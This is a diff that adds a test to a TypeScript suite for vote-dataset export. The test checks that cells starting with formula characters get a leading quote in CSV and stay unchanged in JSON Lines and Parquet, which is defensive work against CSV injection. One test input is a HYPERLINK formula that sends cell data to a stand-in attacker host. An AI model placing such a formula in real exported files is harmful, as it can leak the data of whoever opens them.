@@ -241,4 +241,46 @@ describe("vote datasets", () => {
       expect({ ...parquetRows[i], conversation_b: parquetRows[i].conversation_b ?? null }).toEqual(json);
     });
   });
+
+  it("write text that a spreadsheet would run as a formula with a leading ' in CSV, and as it is in JSON Lines and Parquet", async () => {
+    // OWASP's CSV injection: a cell starting with =, +, -, @, a tab or a carriage return.
+    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "plain - text"];
+    const target = await createTestCampaign();
+    const file = join(dir, "formulas.jsonl");
+    writeFileSync(
+      file,
+      formulas
+        .map((text, i) =>
+          JSON.stringify({
+            question_id: text,
+            model_a: `=model-a-${i}`,
+            model_b: "model-b",
+            winner: "tie",
+            // Imported judges that look like an e-mail address are pseudonymised: this one never does.
+            judge: `=judge-${i}`,
+            tstamp: 1_700_000_000 + i,
+            reason: text,
+            corrected_answer: text,
+            category: text,
+          }),
+        )
+        .join("\n"),
+    );
+    await importVotes(null, target.id, { path: file, format: "jsonl" });
+    const campaign = { id: target.id, slug: target.slug };
+    const fromCsv = parseCsv(readFileSync(await exportToFile(campaign, "csv", "formulas.csv"), "utf8"));
+    const header = fromCsv[0].fields;
+    const fromJsonl = jsonLines(await exportToFile(campaign, "jsonl", "formulas.jsonl.out"));
+    const parquetRows = await parquetReadObjects({
+      file: await asyncBufferFromFile(await exportToFile(campaign, "parquet", "formulas.parquet")),
+    });
+    formulas.forEach((text, i) => {
+      const csv = Object.fromEntries(header.map((name, k) => [name, fromCsv[i + 1].fields[k]]));
+      const safe = text === "plain - text" ? text : `'${text}`;
+      expect([csv.question_id, csv.reason, csv.corrected_answer, csv.category]).toEqual([safe, safe, safe, safe]);
+      expect([csv.model_a, csv.judge]).toEqual([`'=model-a-${i}`, `'=judge-${i}`]);
+      expect([fromJsonl[i].reason, fromJsonl[i].judge, fromJsonl[i].model_a]).toEqual([text, `=judge-${i}`, `=model-a-${i}`]);
+      expect([parquetRows[i].reason, parquetRows[i].judge, parquetRows[i].model_a]).toEqual([text, `=judge-${i}`, `=model-a-${i}`]);
+    });
+  });
 });
